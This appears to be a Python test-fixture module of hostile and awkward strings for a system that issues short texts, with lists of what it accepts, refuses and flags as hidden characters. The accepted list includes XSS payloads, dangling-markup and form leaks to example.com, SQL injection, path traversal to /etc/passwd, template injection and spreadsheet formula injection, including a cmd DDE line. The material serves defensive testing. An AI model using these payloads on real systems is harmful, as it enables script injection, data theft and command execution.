"""Texts that were made to hurt whoever reads them: what an issuer takes, what he refuses, what only a bad one signs."""

from collections.abc import Mapping

LONGEST = 80
"""Characters of the fields that the texts are put into."""

_MARKS = "\u0301\u0323\u0302\u0489\u0336\u0328"

MARKUP: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "picture in an attribute": '"><svg onload=alert(1)>',
    "end of every element": "</b></span></p></dd></dl></article><script>alert(1)</script>",
    "end of the template": "</template></noscript><script>alert(1)</script>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>">',
    "other base": "<base href=//example.com>",
    "refresh": "<meta http-equiv=refresh content=0;url=//example.com>",
    "style": "<style>*{display:none}</style>",
    "style sheet": "<link rel=stylesheet href=//example.com/x.css>",
    "form": "<form action=//example.com><input name=lookup_code>",
    "dangling markup": "<img src='//example.com/?",
    "comment": "<!--",
    "address": "javascript:alert(1)",
    "quotes": "'-alert(1)-\"`",
    "entities": "&lt;b&gt;&#x3c;script&#x3e;alert(1)&amp;amp;",
    "escaped": "%3Cscript%3E\\u003cscript\\u003e\\x3c",
    "wide letters": "＜script＞alert(1)＜/script＞",
}

LANGUAGES: Mapping[str, str] = {
    "Jinja": "{{7*7}}{% raw %}{#",
    "Angular": "{{constructor.constructor('alert(1)')()}}",
    "template literal": "${7*7}#{7*7}<%= 7*7 %>",
    "SQL": "'; DROP TABLE result_code;--",
    "path": "../../etc/passwd",
    "prototype": "__proto__",
    "nothing": "undefined",
    "formula": '=HYPERLINK("//example.com","x")',
    "formula with plus": "+1+cmd|'/C calc'!A0",
    "formula with minus": "-2+3",
    "formula with at": "@SUM(1+1)",
    "formula in wide letters": "＝1+1",
    "terminal": "[31m]0;x",
}

DIRECTIONS: Mapping[str, str] = {
    "Hebrew round a plate": "שלום 43C-1 עולם",
    "Arabic": "السلام عليكم (12)",
    "marks without end": "Nha" + _MARKS * 12,
    "marks first": "\u0323" + _MARKS * 4 + "a",
    "enclosed": "a\u20dd\u20dd\u20e3",
}
"""One line of a phone 320 pixels wide, so that nothing beside them may move."""

LENGTHS: Mapping[str, str] = {
    "one long word": "W" * LONGEST,
    "one long word of marks": "Ễ" * 50,
    "many words": ("Đường " * LONGEST)[: LONGEST - 1],
    "no place to break": "a\u00a0" * (LONGEST // 2 - 1) + "a",
    "pictures": "🚢😀" * 20,
    "one character": "x",
    "decomposed": "Nguye\u0302\u0303n Thi\u0323 Đa\u0306\u0323ng",
}

ISSUABLE: Mapping[str, str] = {**MARKUP, **LANGUAGES, **DIRECTIONS, **LENGTHS}
"""What an issuer takes for a text, since it is one: pages have to show it as such."""

REFUSED: Mapping[str, tuple[str, str]] = {
    "empty": ("", "empty_or_padded"),
    "spaces": ("   ", "empty_or_padded"),
    "spaces of other scripts": ("\u3000\u00a0\u2003", "empty_or_padded"),
    "padded": (" a", "empty_or_padded"),
    "too long": ("a" * (LONGEST + 1), "too_long"),
    "override": ("43C-\u202e54.321", "hidden_character"),
    "override without end": ("\u202eRedrO", "hidden_character"),
    "isolate": ("a\u2067b", "hidden_character"),
    "mark of direction": ("a\u200fb", "hidden_character"),
    "zero-width space": ("Hải\u200bChâu", "hidden_character"),
    "zero-width joiner": ("a\u200db", "hidden_character"),
    "byte order mark": ("\ufeffabc", "hidden_character"),
    "soft hyphen": ("43C\u00ad123", "hidden_character"),
    "NUL": ("a\0b", "hidden_character"),
    "escape": ("\x1b[31mđỏ", "hidden_character"),
    "end of line": ("a\nb", "hidden_character"),
    "line separator": ("a\u2028b", "hidden_character"),
    "tags": ("a\U000e0041\U000e0042", "hidden_character"),
    "private": ("\ue000", "hidden_character"),
    "filler": ("\u3164", "hidden_character"),
    "blank of Braille": ("\u2800\u2800", "hidden_character"),
    "variation selector": ("a\ufe0f", "hidden_character"),
}
"""What an issuer refuses, and the code of the problem that he names."""

HIDDEN: Mapping[str, str] = {name: text for name, (text, code) in REFUSED.items() if code == "hidden_character"}
"""What only a malicious or a careless issuer signs."""
